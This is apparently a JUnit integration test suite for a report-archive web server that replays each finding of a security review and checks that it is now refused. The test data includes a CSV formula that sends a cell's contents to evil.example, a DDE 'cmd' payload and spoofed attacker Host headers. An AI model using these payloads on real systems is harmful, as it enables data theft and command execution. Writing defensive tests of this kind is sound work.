package cn.reportarchive.web;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import cn.reportarchive.Application;
import cn.reportarchive.archive.ImportMetadata;
import cn.reportarchive.auth.Role;
import cn.reportarchive.extract.ExtractionLimits;
import com.fasterxml.jackson.databind.JsonNode;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The attacks of the security review (issue 14) retried against a real server on 127.0.0.1, each
 * test named after its finding. Each one got in before its fix; each must now be refused.
 */
@Tag("integration")
class SecurityReviewTest {
    static final String ADMIN_PW = RoleArchive.ADMIN_PW;
    static final String INSPECTOR_PW = RoleArchive.INSPECTOR_PW;
    static final String VIEWER_PW = RoleArchive.VIEWER_PW;

    @TempDir
    static Path data;
    static RoleArchive site;
    static Application app;
    static WebServer server;
    static String docxId;

    @BeforeAll
    static void start() throws Exception {
        site = new RoleArchive(data);
        app = site.app;
        server = site.server;
        docxId = site.docxId;
    }

    @AfterAll
    static void stop() throws Exception {
        site.close();
    }

    static byte[] sample(String name) throws Exception {
        return RoleArchive.sample(name);
    }

    static ApiClient client() {
        return new ApiClient(server.port());
    }

    /** Another server on the same archive: its own login limiter and sessions. */
    static WebServer another(WebOptions options) {
        return site.another(options);
    }

    static TestClock clock() {
        return new TestClock(Instant.parse("2024-12-10T01:00:00Z"), ZoneId.of("Asia/Shanghai"));
    }

    /** A login sent from another loopback address (127.0.0.x): the limiter sees another client. */
    static int loginFrom(int port, String address, String user, String password) throws Exception {
        String body = ApiClient.json(Map.of("username", user, "password", password));
        byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
        String request = "POST /api/login HTTP/1.1\r\nHost: 127.0.0.1:" + port + "\r\nContent-Type: application/json\r\n"
                + "Content-Length: " + bytes.length + "\r\nConnection: close\r\n\r\n" + body;
        return RawHttp.send(port, address, request.getBytes(StandardCharsets.UTF_8), 30_000).status();
    }

    // ---- High 1: parallel password guessing -------------------------------------------------

    @Test
    void finding01_parallelGuessesAreCountedBeforeHashing() throws Exception {
        WebServer s = another(WebOptions.defaults().withClock(clock()));
        List<Integer> statuses = parallel(40, i -> loginFrom(s.port(), "127.0.0.11", "wang", "wrong-guess-" + i));
        assertEquals(LoginLimits.DEFAULT.perName(), statuses.stream().filter(c -> c == 401).count(), statuses.toString());
        assertEquals(40 - LoginLimits.DEFAULT.perName(), statuses.stream().filter(c -> c == 429).count(), statuses.toString());
        assertEquals(429, loginFrom(s.port(), "127.0.0.11", "wang", INSPECTOR_PW), "the right password while locked");

        // the right one among 39 wrong ones, all at once: only the first five are even hashed
        List<Integer> mixed = parallel(40, i -> loginFrom(s.port(), "127.0.0.12", "zhang",
                i == 20 ? ADMIN_PW : "wrong-guess-" + i));
        assertTrue(mixed.stream().filter(c -> c != 429).count() <= LoginLimits.DEFAULT.perName(), mixed.toString());
        assertTrue(mixed.stream().allMatch(c -> c == 401 || c == 429 || c == 200), mixed.toString());
    }

    interface Call {
        int run(int i) throws Exception;
    }

    static List<Integer> parallel(int n, Call call) throws Exception {
        ExecutorService pool = Executors.newFixedThreadPool(n);
        try {
            CountDownLatch go = new CountDownLatch(1);
            List<Future<Integer>> futures = new ArrayList<>();
            for (int i = 0; i < n; i++) {
                int k = i;
                futures.add(pool.submit(() -> {
                    go.await();
                    return call.run(k);
                }));
            }
            go.countDown();
            List<Integer> out = new ArrayList<>();
            for (Future<Integer> f : futures) {
                out.add(f.get());
            }
            return out;
        } finally {
            pool.shutdownNow();
        }
    }

    // ---- High 2: a removed account's session ------------------------------------------------

    @Test
    void finding02_aSessionDiesWithItsAccountEvenWhenTheNameComesBack() throws Exception {
        app.auth().accounts().add("reborn", Role.VIEWER, List.of("云溪镇"), "first-password-1".toCharArray());
        ApiClient old = client().signedIn("reborn", "first-password-1");
        assertEquals(200, old.get("/api/session").statusCode());
        app.auth().accounts().remove("reborn");
        app.auth().accounts().add("reborn", Role.ADMIN, List.of(), "second-password-2".toCharArray());
        HttpResponse<byte[]> r = old.get("/api/audit");
        assertEquals(401, r.statusCode(), "the old cookie must not carry the new account's role: " + ApiClient.text(r));
        assertEquals(401, old.get("/api/session").statusCode());
        assertEquals(200, client().signedIn("reborn", "second-password-2").get("/api/audit").statusCode());
    }

    // ---- Medium 3: formulas in CSV exports --------------------------------------------------

    static final String FORMULA_UNIT = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此查看\")";
    static final String CMD_UNIT = "+cmd|' /C calc'!A0";

    @Test
    void finding03_noCsvExportHoldsAFormulaCell() throws Exception {
        byte[] text = sample("yunxi-dw-2022.txt");
        byte[] copy = java.util.Arrays.copyOf(text, text.length + 1);
        copy[text.length] = '\n';
        app.archive().importFile("a.txt", text, new ImportMetadata(FORMULA_UNIT, 2022, "@SUM(1+1)"));
        app.archive().importFile("b.txt", copy, new ImportMetadata(CMD_UNIT, 2023, "-2+3"));
        ApiClient admin = client().signedIn("zhang", ADMIN_PW);
        List<String> paths = List.of("/api/copies/export?format=csv",
                "/api/repeats/common/export?format=csv",
                "/api/repeats/export?format=csv&unit=" + ApiClient.enc(FORMULA_UNIT),
                "/api/compare/export?format=csv&unit=" + ApiClient.enc(FORMULA_UNIT) + "&from=2022&to=2022");
        int cellsWithUnit = 0;
        for (String path : paths) {
            HttpResponse<byte[]> r = admin.get(path);
            if (r.statusCode() != 200) {
                continue; // (a unit of one year has no comparison; the others carry the cells)
            }
            String csv = ApiClient.text(r).replace("\uFEFF", "");
            for (org.apache.commons.csv.CSVRecord rec : org.apache.commons.csv.CSVFormat.EXCEL.parse(new java.io.StringReader(csv))) {
                for (String cell : rec) {
                    assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0
                            && !cell.matches("-?\\d+(\\.\\d+)?([eE]-?\\d+)?"), path + ": a live formula cell " + cell);
                    if (cell.contains("HYPERLINK") || cell.contains("cmd|")) {
                        cellsWithUnit++;
                        assertTrue(cell.startsWith("'"), cell);
                    }
                }
            }
        }
        assertTrue(cellsWithUnit >= 2, "the hostile units were exported (as text): " + cellsWithUnit);
    }

    // ---- Medium 4: DNS rebinding past the Host check ----------------------------------------

    @Test
    void finding04_onlyLoopbackHostsAreAnswered() throws Exception {
        for (String host : List.of("127.0.0.1.attacker.example", "127.evil.example", "127.0.0.1.nip.io:" + server.port(),
                "127.1", "127.0.0.256", "localhost.attacker.example", "[::1].evil")) {
            RawHttp.Answer a = RawHttp.send(server.port(), "GET /api/health HTTP/1.1\r\nHost: " + host
                    + "\r\nConnection: close\r\n\r\n");
            assertTrue(a.status() == 403 || a.status() == 400, host + ": " + a.status() + " " + a.body());
            assertFalse(a.body().contains("reports"), a.body());
        }
        for (String host : List.of("127.0.0.1:" + server.port(), "localhost:" + server.port(), "127.8.9.10", "[::1]:" + server.port())) {
            RawHttp.Answer a = RawHttp.send(server.port(), "GET /api/health HTTP/1.1\r\nHost: " + host
                    + "\r\nConnection: close\r\n\r\n");
            assertEquals(200, a.status(), host + ": " + a.body());
        }
    }

    // ---- Medium 5 and 6: the open archive (no accounts yet) --------------------------------

    @Test
    void finding05_anOpenArchiveTakesWritesOnlyFromItsOwnPages(@TempDir Path other) throws Exception {
        try (Application open = Application.open(other, ExtractionLimits.defaults());
                WebServer s = WebServer.start(open, "127.0.0.1", 0)) {
            byte[] txt = sample("yunxi-dw-2022.txt");
            for (String origin : new String[] {"null", null, "http://evil.example"}) {
                ApiClient hostile = new ApiClient(s.port());
                hostile.origin = origin;
                HttpResponse<byte[]> r = hostile.upload("/api/reports", "planted.txt", txt, Map.of());
                assertEquals(403, r.statusCode(), origin + ": " + ApiClient.text(r));
            }
            assertEquals(0, open.archive().count(), "nothing planted");
            ApiClient page = new ApiClient(s.port()); // the archive's own page: its origin
            HttpResponse<byte[]> created = page.upload("/api/reports", "ok.txt", txt, Map.of());
            assertEquals(201, created.statusCode(), ApiClient.text(created));
            String id = ApiClient.body(created).get("id").asText();
            page.origin = "null";
            assertEquals(403, page.delete("/api/reports/" + id).statusCode());
            page.origin = null;
            assertEquals(403, page.delete("/api/reports/" + id).statusCode());
            assertEquals(1, open.archive().count(), "nothing deleted");
            // reading needs no Origin
            assertEquals(200, page.get("/api/reports").statusCode());
        }
    }

    @Test
    void finding06_anAnonymousCallerIsNotToldTheArchivesSize() throws Exception {
        HttpResponse<byte[]> anonymous = client().get("/api/health");
        assertEquals(200, anonymous.statusCode());
        assertNull(ApiClient.body(anonymous).get("reports"), ApiClient.text(anonymous));
        HttpResponse<byte[]> signedIn = client().signedIn("wang", INSPECTOR_PW).get("/api/health");
        assertEquals(app.archive().count(), ApiClient.body(signedIn).get("reports").asInt());
    }

    // ---- Medium 7: a viewer's scores moved with other units' reports ------------------------

    @Test
    void finding07_aViewersScoresAndSimilaritiesDoNotMoveWithOtherUnits() throws Exception {
        app.archive().importFile("linjiang-czj-2023.pdf", sample("linjiang-czj-2023.pdf"), ImportMetadata.NONE);
        ApiClient viewer = client().signedIn("li", VIEWER_PW);
        List<String> asked = List.of("/api/search?q=" + ApiClient.enc("学习 理论 不够"),
                "/api/search?q=" + ApiClient.enc("形式主义") + "&sort=relevance",
                "/api/compare?unit=" + ApiClient.enc("临江县财政局") + "&from=2022&to=2023",
                "/api/repeats?unit=" + ApiClient.enc("临江县财政局"));
        List<String> before = new ArrayList<>();
        for (String path : asked) {
            HttpResponse<byte[]> r = viewer.get(path);
            assertEquals(200, r.statusCode(), path + " " + ApiClient.text(r));
            before.add(ApiClient.text(r));
        }
        assertTrue(before.get(0).contains("\"score\""), before.get(0));
        // another unit's reports, full of the same words, come and go
        String other = app.archive().importFile("qingshan-scjg-2023.txt", sample("qingshan-scjg-2023.txt"), ImportMetadata.NONE).id();
        String third = app.archive().importFile("linjiang-sjj-2022.txt", sample("linjiang-sjj-2022.txt"), ImportMetadata.NONE).id();
        for (int i = 0; i < asked.size(); i++) {
            assertEquals(before.get(i), ApiClient.text(viewer.get(asked.get(i))), "after an import: " + asked.get(i));
        }
        assertTrue(app.archive().delete(other));
        assertTrue(app.archive().delete(third));
        for (int i = 0; i < asked.size(); i++) {
            assertEquals(before.get(i), ApiClient.text(viewer.get(asked.get(i))), "after a deletion: " + asked.get(i));
        }
    }

    // ---- Medium 9: actions that left no trace -----------------------------------------------

    static List<JsonNode> entries(String action) throws Exception {
        List<JsonNode> out = new ArrayList<>();
        var page = app.auth().audit().query(new cn.reportarchive.auth.AuditQuery(null, action, null, null, null, 1, 1000));
        for (var e : page.entries()) {
            out.add(ApiClient.JSON.valueToTree(Map.of("user", String.valueOf(e.user()), "target", String.valueOf(e.target()),
                    "detail", e.detail())));
        }
        return out;
    }

    @Test
    void finding09_refusalsReadingsPreviewsTemplatesAndExportsAreRecorded() throws Exception {
        ApiClient viewer = client().signedIn("li", VIEWER_PW);
        byte[] txt = sample("qingshan-scjg-2023.txt");
        int refusedBefore = entries("refused").size();
        assertEquals(403, viewer.get("/api/copies").statusCode());
        assertEquals(403, viewer.get("/api/audit").statusCode());
        assertEquals(403, viewer.upload("/api/reports", "q.txt", txt, Map.of()).statusCode());
        assertEquals(403, viewer.delete("/api/reports/" + docxId).statusCode());
        List<JsonNode> refused = entries("refused");
        assertEquals(refusedBefore + 4, refused.size(), refused.toString());
        assertTrue(refused.stream().limit(4).allMatch(e -> e.get("user").asText().equals("li")));

        ApiClient admin = client().signedIn("zhang", ADMIN_PW);
        int reads = entries("audit-read").size();
        assertEquals(200, admin.get("/api/audit?user=li").statusCode());
        assertEquals(reads + 1, entries("audit-read").size());

        int lists = entries("list").size();
        assertEquals(200, admin.get("/api/reports").statusCode());
        assertEquals(lists + 1, entries("list").size());
        assertTrue(entries("list").get(0).get("detail").has("rows"));

        assertEquals(200, admin.upload("/api/reports/preview", "q.txt", txt, Map.of()).statusCode());
        assertEquals("q.txt", entries("preview").get(0).get("detail").get("file").asText());

        HttpResponse<byte[]> added = admin.upload("/api/templates", "范文.txt", txt, Map.of("name", "范文甲"));
        assertEquals(201, added.statusCode(), ApiClient.text(added));
        String templateId = ApiClient.body(added).get("id").asText();
        assertEquals(templateId, entries("template-add").get(0).get("target").asText());
        assertEquals(204, admin.delete("/api/templates/" + templateId).statusCode());
        assertEquals(templateId, entries("template-remove").get(0).get("target").asText());

        // an export says its format and rows; a failed one is recorded with why
        assertEquals(200, admin.get("/api/copies/export?format=csv").statusCode());
        JsonNode export = entries("export").get(0).get("detail");
        assertEquals("csv", export.get("format").asText());
        assertTrue(export.has("rows"), export.toString());
        assertEquals(404, admin.get("/api/repeats/export?unit=" + ApiClient.enc("没有这个单位") + "&format=xlsx").statusCode());
        assertEquals("failed", entries("export").get(0).get("detail").get("result").asText());
    }

    // ---- Low 12: the audit entry before the change -----------------------------------------

    @Test
    void finding12_whenTheAuditLogCannotBeWrittenNothingIsImportedOrDeleted() throws Exception {
        ApiClient admin = client().signedIn("zhang", ADMIN_PW);
        byte[] txt = sample("linjiang-sjj-2023.docx");
        int count = app.archive().count();
        Path catalog = new cn.reportarchive.archive.DataDirectory(data).catalog();
        try (java.sql.Connection c = java.sql.DriverManager.getConnection("jdbc:sqlite:" + catalog);
                java.sql.Statement s = c.createStatement()) {
            s.execute("CREATE TRIGGER audit_full BEFORE INSERT ON audit BEGIN SELECT RAISE(ABORT, 'disk full'); END");
            try {
                HttpResponse<byte[]> r = admin.upload("/api/reports", "sjj.docx", txt, Map.of());
                assertEquals(503, r.statusCode(), ApiClient.text(r));
                assertEquals(count, app.archive().count(), "the import did not happen");
                r = admin.delete("/api/reports/" + docxId);
                assertEquals(503, r.statusCode(), ApiClient.text(r));
                assertTrue(app.archive().ids().contains(docxId), "the deletion did not happen");
            } finally {
                s.execute("DROP TRIGGER audit_full");
            }
        }
    }

    // ---- Medium 10: a body sent a byte at a time --------------------------------------------

    @Test
    void finding10_aBodyTrickledAByteAtATimeIsCutOff() throws Exception {
        try (java.net.Socket socket = RawHttp.open(server.port(), "127.0.0.10", 9_000)) {
            var out = socket.getOutputStream();
            RawHttp.write(out, "POST /api/login HTTP/1.1\r\nHost: 127.0.0.1:" + server.port()
                    + "\r\nContent-Type: application/json\r\nContent-Length: 200\r\n\r\n{");
            long start = System.nanoTime();
            RawHttp.Answer answer = null;
            try {
                for (int i = 0; i < 6 && answer == null; i++) {
                    Thread.sleep(1500);
                    RawHttp.write(out, " ");
                    if (socket.getInputStream().available() > 0) {
                        answer = RawHttp.read(socket.getInputStream());
                    }
                }
                if (answer == null) {
                    answer = RawHttp.read(socket.getInputStream());
                }
            } catch (java.net.SocketTimeoutException held) {
                throw new AssertionError("the server still waits for the trickled body", held);
            } catch (java.io.IOException closed) {
                // the server let go of the connection: as good as an answer
            }
            double seconds = (System.nanoTime() - start) / 1e9;
            assertTrue(seconds < 15, "held for " + seconds + " s");
            if (answer != null) {
                // cut off mid-body: the login reads no JSON (401), or Jetty answers itself (408/400)
                assertTrue(answer.status() >= 400 && answer.status() < 500, answer.head());
            }
        }
    }

    // ---- Low 11, 13, 14, 18: method override, huge length, headers, HEAD ---------------------

    @Test
    void finding11_aMethodOverrideDoesNotTurnAGetIntoADelete() throws Exception {
        ApiClient admin = client().signedIn("zhang", ADMIN_PW);
        for (String header : List.of("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override")) {
            HttpResponse<byte[]> r = admin.send(admin.request("/api/reports/" + docxId).header(header, "DELETE").GET());
            assertEquals(400, r.statusCode(), header + " " + ApiClient.text(r));
        }
        assertTrue(app.archive().ids().contains(docxId));
    }

    @Test
    void finding13_aDeclaredLengthOf2GiBOrMoreIsRefusedBeforeItsBody() throws Exception {
        ApiClient admin = client().signedIn("zhang", ADMIN_PW);
        for (String length : List.of("2147483648", "3000000000", "9000000000000")) {
            RawHttp.Answer a = RawHttp.send(server.port(), "POST /api/reports HTTP/1.1\r\nHost: 127.0.0.1:" + server.port()
                    + "\r\nCookie: " + admin.cookie + "\r\n" + Auth.CSRF_HEADER + ": " + admin.csrf
                    + "\r\nOrigin: http://127.0.0.1:" + server.port()
                    + "\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: " + length + "\r\n\r\n--x\r\n");
            assertEquals(413, a.status(), length + ": " + a.head() + a.body());
        }
    }

    @Test
    void finding14_pagesCannotBeFramedAndReportsAreNotCached() throws Exception {
        ApiClient inspector = client().signedIn("wang", INSPECTOR_PW);
        for (String page : List.of("/", "/report.html", "/api/session")) {
            HttpResponse<byte[]> r = inspector.get(page);
            String csp = r.headers().firstValue("Content-Security-Policy").orElse("");
            assertTrue(csp.contains("frame-ancestors 'none'") && csp.contains("script-src 'self'"), page + ": " + csp);
            assertEquals("DENY", r.headers().firstValue("X-Frame-Options").orElse(""), page);
        }
        for (String api : List.of("/api/reports/" + docxId, "/api/reports/" + docxId + "/original", "/api/search?q=x")) {
            HttpResponse<byte[]> r = inspector.get(api);
            assertEquals(200, r.statusCode(), api);
            assertEquals("no-store", r.headers().firstValue("Cache-Control").orElse(""), api);
        }
    }

    @Test
    void finding18_headOnTheApiIsRefusedNotAnsweredUnseen() throws Exception {
        ApiClient inspector = client().signedIn("wang", INSPECTOR_PW);
        int views = entries("view").size();
        HttpResponse<byte[]> r = inspector.send(inspector.request("/api/reports/" + docxId)
                .method("HEAD", java.net.http.HttpRequest.BodyPublishers.noBody()));
        assertEquals(405, r.statusCode());
        r = inspector.send(inspector.request("/api/reports/" + docxId + "/original")
                .method("HEAD", java.net.http.HttpRequest.BodyPublishers.noBody()));
        assertEquals(405, r.statusCode());
        assertEquals(views, entries("view").size(), "nothing read unseen");
    }

    // ---- Low 15: names that look like other names -------------------------------------------

    @Test
    void finding15_invisibleAndLookAlikeCharactersAreRefusedInAccountNames() throws Exception {
        for (String name : List.of("zhang\u200b", "zh\u200dang", "\u202Egnahz", "ｚhang", "zhang\u2066", "zhang\uFE0F", "\u3164zhang")) {
            var e = org.junit.jupiter.api.Assertions.assertThrows(cn.reportarchive.auth.AccountException.class,
                    () -> app.auth().accounts().add(name, Role.ADMIN, List.of(), "look-alike-1".toCharArray()));
            assertTrue(e.badInput() && e.getMessage().contains("用户名"), name + ": " + e.getMessage());
        }
        assertTrue(app.auth().accounts().find("zhang\u200b").isEmpty());
    }

    // ---- Low 16: the lock is per user and address first -------------------------------------

    @Test
    void finding16_failuresFromOneAddressDoNotLockTheAccountEverywhere() throws Exception {
        WebServer s = another(WebOptions.defaults().withClock(clock()).withLoginLimits(new LoginLimits(3, 20, 10, java.time.Duration.ofMinutes(15))));
        for (int i = 0; i < 3; i++) {
            assertEquals(401, loginFrom(s.port(), "127.0.0.31", "zhang", "wrong-" + i));
        }
        assertEquals(429, loginFrom(s.port(), "127.0.0.31", "zhang", ADMIN_PW), "locked from that address");
        assertEquals(200, loginFrom(s.port(), "127.0.0.32", "zhang", ADMIN_PW), "not from the admin's own desk");
        // a guesser spread over many addresses still meets the account's overall limit
        for (int a = 40; a < 44; a++) {
            for (int i = 0; i < 3; i++) {
                loginFrom(s.port(), "127.0.0." + a, "zhang", "wrong-" + i);
            }
        }
        assertEquals(429, loginFrom(s.port(), "127.0.0.50", "zhang", ADMIN_PW), "past the limit for the name everywhere");
    }

    // ---- Low 17: a unit typed with spaces ---------------------------------------------------

    @Test
    void finding17_aUnitWithSpacesCanBeCompared() throws Exception {
        String unit = "青山区 市场监管 试点";
        app.archive().importFile("q2022.doc", sample("qingshan-scjg-2022.doc"), new ImportMetadata(unit, 2022, null));
        app.archive().importFile("q2024.docx", sample("qingshan-scjg-2024.docx"), new ImportMetadata(unit, 2024, null));
        ApiClient inspector = client().signedIn("wang", INSPECTOR_PW);
        HttpResponse<byte[]> r = inspector.get("/api/compare?unit=" + ApiClient.enc(unit) + "&from=2022&to=2024");
        assertEquals(200, r.statusCode(), ApiClient.text(r));
        assertEquals(200, inspector.get("/api/repeats?unit=" + ApiClient.enc(unit)).statusCode());
    }

    // ---- Low 19: messages that name the sample units ----------------------------------------

    @Test
    void finding19_errorMessagesDoNotNameTheSampleUnits() throws Exception {
        ApiClient inspector = client().signedIn("wang", INSPECTOR_PW);
        for (String q : List.of("unit:", "author:", "year:", "aspect:")) {
            HttpResponse<byte[]> r = inspector.get("/api/search?q=" + ApiClient.enc(q));
            assertEquals(400, r.statusCode());
            String error = ApiClient.body(r).get("error").asText();
            for (String sample : List.of("临江", "云溪", "青山", "周立新")) {
                assertFalse(error.contains(sample), error);
            }
        }
        String index = ApiClient.text(inspector.get("/"));
        assertFalse(index.contains("临江县财政局"), "the search help names a sample unit");
    }

    // ---- Also expected: the audit log's details in Chinese ----------------------------------

    @Test
    void alsoExpected_auditDetailsReadAsChineseInThePageAndTheCsv() throws Exception {
        ApiClient inspector = client().signedIn("wang", INSPECTOR_PW);
        inspector.get("/api/search?q=" + ApiClient.enc("八项规定") + "&year=2022");
        assertEquals(200, inspector.get("/api/repeats?unit=" + ApiClient.enc("临江县财政局")).statusCode());
        ApiClient admin = client().signedIn("zhang", ADMIN_PW);
        JsonNode page = ApiClient.body(admin.get("/api/audit?user=wang"));
        for (JsonNode e : page.get("entries")) {
            String text = e.get("detailText").asText();
            assertFalse(text.contains("null") || text.contains("{") || text.contains("compare"), text);
        }
        String csv = ApiClient.text(admin.get("/api/audit/export?user=wang"));
        assertTrue(csv.contains("检索式：八项规定；年度：2022"), csv);
        assertTrue(csv.contains("内容：重复问题"), csv);
        assertFalse(csv.contains("{\"") || csv.contains("：null"), csv);
    }
}
